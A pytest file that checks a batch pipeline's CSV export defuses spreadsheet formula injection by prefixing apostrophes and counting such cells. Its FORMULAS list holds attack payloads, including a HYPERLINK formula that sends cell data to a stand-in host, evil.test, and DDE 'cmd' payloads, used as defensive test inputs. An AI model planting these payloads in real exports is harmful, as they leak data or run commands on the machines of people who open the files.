"""What a spreadsheet would run as a formula goes out as text, is counted, and can be had as it is."""

import csv
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st

from batch_pipeline.cli import main
from batch_pipeline.cli.spreadsheet import Written, write_file
from batch_pipeline.simulator import Simulator
from batch_pipeline_tests.night import DAY, Night, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+49 170 1234567",
    "=",
    "-1\n=2",
    "--1",
]
HARMLESS = [
    "",
    "-1",
    "+1",
    "-1.5e-7",
    "+.5",
    "1",
    "a=b",
    " =1",
    "'=1",
    "-inf"[1:],
    "né",
    'a"b,c;d',
    "x\ny",
]


@pytest.fixture
def connection() -> duckdb.DuckDBPyConnection:
    return duckdb.connect()


def written(
    connection: duckdb.DuckDBPyConnection, texts: list[str], path: Path, *, exact: bool
) -> tuple[Written, list[list[str]]]:
    connection.execute(
        "CREATE OR REPLACE TEMP TABLE texts (text VARCHAR, n INTEGER, few VARCHAR[])"
    )
    if texts:
        connection.executemany(
            "INSERT INTO texts VALUES (?, -1, ['=1'])", [(text,) for text in texts]
        )
    done = write_file(connection, "texts", path, exact=exact)
    with path.open(newline="", encoding="utf-8") as file:
        return done, list(csv.reader(file))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_is_counted(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path, text: str
) -> None:
    done, lines = written(connection, [text, "plain"], tmp_path / "a.csv", exact=False)

    assert done == Written(rows=2, defused=1)
    assert lines[1:] == [[f"'{text}", "-1", '["=1"]'], ["plain", "-1", '["=1"]']]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_other_texts_stay_as_they_are(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path, text: str
) -> None:
    done, lines = written(connection, [text], tmp_path / "a.csv", exact=False)

    assert done.defused == 0
    assert lines[1] == [text, "-1", '["=1"]']


@settings(deadline=None)
@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8))
)
def test_no_text_cell_begins_as_a_formula_and_exact_ones_come_back_as_they_were(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    with duckdb.connect() as connection:
        path = tmp_path_factory.mktemp("cells") / "a.csv"
        _, lines = written(connection, texts, path, exact=False)
        cells = [line[0] for line in lines[1:]]
        for cell in cells:
            if cell[:1] in tuple("=+-@\t\r"):
                float(cell)
        assert [cell.removeprefix("'") for cell in cells] == [t.removeprefix("'") for t in texts]

        done, lines = written(connection, texts, path, exact=True)
        assert [line[0] for line in lines[1:]] == texts
        assert done == Written(len(texts), 0)


def test_headers_are_cells_too(connection: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    connection.execute('CREATE TEMP TABLE odd AS SELECT 1 AS "=1+1", 2 AS "plain"')
    done = write_file(connection, "odd", tmp_path / "a.csv", exact=False)

    assert done == Written(1, 1)
    assert (tmp_path / "a.csv").read_text().splitlines() == ["'=1+1,plain", "1,2"]


def test_export_and_dispositions_say_how_many_and_exact_and_parquet_leave_them(
    simulate: Callable[..., Simulator],
    night: Callable[..., Night],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    source = [
        {"id": key, "text": f"question number {n} of the night"}
        for n, key in enumerate(["=1+1", "@k", "-7", "plain", "+a"])
    ]
    answers = [{"text": row["text"], "label": f"={n}*2"} for n, row in enumerate(source)]
    simulate(
        answers={
            "file": str(write_csv(tmp_path / "key.csv", answers)),
            "lookup": {"column": "text"},
        }
    )
    made = night(source=source, golden=0, output={"label": {"type": "string"}})
    made.settle()
    made.publish()
    monkeypatch.setenv("BATCH_PIPELINE_WORKLOADS", str(made.folder.parent))

    def write(command: str, name: str, *more: str) -> tuple[Result, Path]:
        path = tmp_path / f"{command}-{len(more)}-{name}"
        done = CliRunner().invoke(
            main, [command, "questions", "--date", DAY, "--to", str(path), *more]
        )
        assert done.exit_code == 0, done.output
        return done, path

    for command, keys_and_answers in (("export", 8), ("dispositions", 3)):
        done, path = write(command, "a.csv")
        assert f"{keys_and_answers} cells that a spreadsheet would take for formulas" in done.stderr
        assert "'=1+1," in path.read_text()
        assert "\n-7," in path.read_text()
        exact, path = write(command, "a.csv", "--exact")
        assert "spreadsheet" not in exact.stderr
        assert "\n=1+1," in path.read_text()
        parquet, path = write(command, "a.parquet")
        assert "spreadsheet" not in parquet.stderr
        keys = duckdb.execute("SELECT * FROM read_parquet(?)", [str(path)]).fetchall()
        assert {row[0] for row in keys} == {"=1+1", "@k", "-7", "plain", "+a"}
